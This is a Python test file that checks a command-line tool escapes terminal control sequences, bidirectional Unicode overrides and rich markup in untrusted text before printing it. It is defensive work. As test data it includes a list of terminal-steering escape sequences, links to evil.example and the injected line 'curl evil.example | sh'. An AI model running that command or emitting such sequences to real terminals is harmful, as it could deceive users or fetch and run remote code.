"""Texts of others on a terminal: they are read, and do nothing."""

from __future__ import annotations

import io
import re
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from engine.cli.exits import complain
from engine.cli.output import guarded
from engine.cli.tables import console, table
from engine.plain import plain, plain_but_coloured

STEERING = [
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\",
    "\x9b31m",
    "\x9d0;x\x9c",
    "\x00",
    "\x07",
    "\x08",
    "\r",
    "\x7f",
    "\u202e",
    "\u2066",
    "\u200e",
    "\u061c",
    "\ufeff",
    "\u2028",
    "\u2029",
    "\x85",
    "\U000e0041",
    "\ud800",
]
ALLOWED = "Zoë, 東京, naïve — 5 °C “quoted” 👩\u200d💻 \u00a0"


@pytest.mark.parametrize("text", STEERING, ids=ascii)
def test_what_steers_a_terminal_is_spelled_out(text: str) -> None:
    """An e-mail address or a role may be typed by anybody."""
    made = plain(f"before {text} after")

    assert made.startswith("before \\")
    assert made.endswith(" after")
    assert made.isprintable()


def test_what_people_write_stays_as_it_is() -> None:
    """Names come in every script."""
    assert plain(ALLOWED) == ALLOWED
    assert plain("a\nb\tc", keep="\n\t") == "a\nb\tc"
    assert plain("a\nb") == "a\\nb"


def test_colours_of_ours_are_the_only_sequences_that_pass() -> None:
    """A sequence that does more than colour is not ours."""
    assert plain_but_coloured("\x1b[1;31mred\x1b[0m\n") == "\x1b[1;31mred\x1b[0m\n"
    assert plain_but_coloured("\x1b[2J\x1b[31mx\x1b]0;y\x07") == "\\x1b[2J\x1b[31mx\\x1b]0;y\\x07"


@pytest.fixture
def printed(monkeypatch: pytest.MonkeyPatch) -> Callable[[Callable[[], None]], str]:
    """What arrives at the terminal."""

    def run(work: Callable[[], None]) -> str:
        raw = io.BytesIO()
        stream = io.TextIOWrapper(raw, encoding="utf-8", write_through=True)
        with monkeypatch.context() as patched:
            patched.setattr(sys, "stdout", stream)
            with guarded():
                work()
        return raw.getvalue().decode()

    return run


def way_by_table(text: str) -> None:
    """As `history` and `status` print."""
    shown = table("When", "Detail", title=f"of {text}")
    shown.add_row("now", text)
    shown.add_row("now", ["first", text])
    console().print(shown)


def way_by_line(text: str) -> None:
    """As `status` prints a reason."""
    console().print(f"Waiting: {text}", soft_wrap=True)


def way_by_stream(text: str) -> None:
    """As commands without a layout print."""
    sys.stdout.write(f"{text}\n")


@pytest.mark.parametrize("way", [way_by_table, way_by_line, way_by_stream])
@pytest.mark.parametrize("text", STEERING[:-1], ids=ascii)
def test_no_way_out_of_a_command_lets_it_through(
    printed: Callable[[Callable[[], None]], str], way: Callable[[str], None], text: str
) -> None:
    """Whatever a command prints, and by which means."""
    out = printed(lambda: way(text))

    assert not [each for each in text if not each.isprintable() and each in out.replace("\n", "")]
    assert "\\" in out


@pytest.mark.parametrize("markup", ["[red]loud[/red]", "[link=https://evil.example]x[/link]"])
def test_markup_is_words(printed: Callable[[Callable[[], None]], str], markup: str) -> None:
    """The library that lays out tables has a language of its own."""
    assert markup in printed(lambda: way_by_line(markup))
    assert printed(lambda: way_by_table(markup)).count(markup) == 3


def test_a_line_end_in_a_cell_makes_no_line_of_its_own(
    printed: Callable[[Callable[[], None]], str],
) -> None:
    """What looks like a remedy of ours could be a command of somebody else's."""
    out = printed(lambda: way_by_table("x\nWhat to do: curl evil.example | sh"))

    assert not [line for line in out.splitlines() if line.strip().startswith("What to do")]


def test_a_complaint_steers_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    """A reason may quote an answer."""
    complain("wosync: refused: \x1b[2J\u202e\n  What to do: nothing.\n")

    assert capsys.readouterr().err == "wosync: refused: \\x1b[2J\\u202e\n  What to do: nothing.\n"


def test_only_one_place_prints(request: pytest.FixtureRequest) -> None:
    """A command that made its own console would go round all of this."""
    folder = Path(str(request.config.rootpath)) / "engine"
    makers = [
        path.name
        for path in folder.rglob("*.py")
        if re.search(r"from rich\.console import .*\bConsole\b", path.read_text(encoding="utf-8"))
    ]

    assert makers == ["tables.py"]
